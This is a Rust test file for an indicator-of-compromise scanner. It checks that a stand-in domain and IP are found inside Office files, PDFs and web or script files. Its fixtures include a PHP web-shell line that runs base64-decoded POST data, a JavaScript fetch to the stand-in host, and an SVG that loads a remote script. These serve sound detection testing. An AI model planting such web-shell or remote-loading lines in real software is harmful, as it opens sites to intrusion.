//! Documents and web content: Office files and PDF documents are opened, the others are searched and hashed as they stand.

use belljar::model::{ArtifactSummary, Limits, ScanEvent, Sighting};
use belljar::{pack, scan};

use crate::samples::sample;

fn scanned(name: &str, bytes: &[u8]) -> (Vec<Sighting>, Vec<ArtifactSummary>) {
    let list = "type,value\ndomain,evil.example\nip,192.0.2.7\n";
    let pack = pack::read("list", vec![("iocs.csv".to_owned(), list.as_bytes().to_vec())]);
    let mut scanner = scan::Scanner::new(scan::compile(&[pack]), Limits::default());
    let mut events: Vec<ScanEvent> = Vec::new();
    scanner.begin(name, &mut events);
    for block in bytes.chunks(977) {
        let _ = scanner.feed(block, &mut events);
    }
    scanner.finish(&mut events);
    let (mut sightings, mut artifacts) = (Vec::new(), Vec::new());
    for event in events {
        match event {
            ScanEvent::Sighting(sighting) => sightings.push(sighting),
            ScanEvent::Artifact(artifact) => artifacts.push(artifact),
            ScanEvent::Diagnostic(said) => panic!("{name}: {said:?}"),
            _ => {}
        }
    }
    (sightings, artifacts)
}

#[test]
fn the_parts_of_office_files_are_opened_and_searched() {
    for (name, inside) in [("report.docx", "word/document.xml"), ("table.xlsx", "xl/worksheets/sheet1.xml")] {
        let (sightings, artifacts) = scanned(name, &sample(&format!("office/{name}")));
        let path = format!("{name} > {inside}");
        assert!(artifacts.iter().any(|artifact| artifact.artifact == path && artifact.complete), "{path}");
        for value in ["evil.example", "192.0.2.7"] {
            assert!(
                sightings.iter().any(|one| one.artifact == path && one.value == value),
                "{path}: {value}"
            );
        }
    }
}

#[test]
fn a_plain_pdf_is_read_without_a_remark() {
    let (sightings, artifacts) = scanned("plain.pdf", &sample("office/plain.pdf"));
    assert_eq!(artifacts.last().map(|all| all.detail.as_str()), Some("PDF document"));
    let values: Vec<&str> = sightings.iter().map(|one| one.value.as_str()).collect();
    assert!(values.contains(&"192.0.2.7") && values.contains(&"evil.example"), "{values:?}");
}

#[test]
fn pages_and_scripts_are_text_whatever_their_ending() {
    for (name, text) in [
        ("a.html", "<!DOCTYPE html>\n<a href=\"http://evil&#46;example/x\">x</a>\n"),
        ("a.js", "var a='\\x65vil.example';\nfetch('//evil.example/'+a);\n"),
        ("a.php", "<?php\n$h = 'evil.example';\neval(base64_decode($_POST['x']));\n"),
        ("a.aspx", "<%@ Page Language=\"C#\" %>\n<% // evil.example\n %>\n"),
        ("a.jsp", "<%@ page import=\"java.io.*\" %>\n<% String h = \"evil.example\"; %>\n"),
        ("a.svg", "<?xml version=\"1.0\"?>\n<svg><script href=\"https://evil.example/a.js\"/></svg>\n"),
    ] {
        let (sightings, artifacts) = scanned(name, text.as_bytes());
        assert!(artifacts[0].kind.is_text(), "{name}: {:?}", artifacts[0].kind);
        assert_eq!(artifacts[0].digests.sha256.len(), 64);
        assert!(sightings.iter().any(|one| one.value == "evil.example" && one.line.is_some()), "{name}");
    }
}
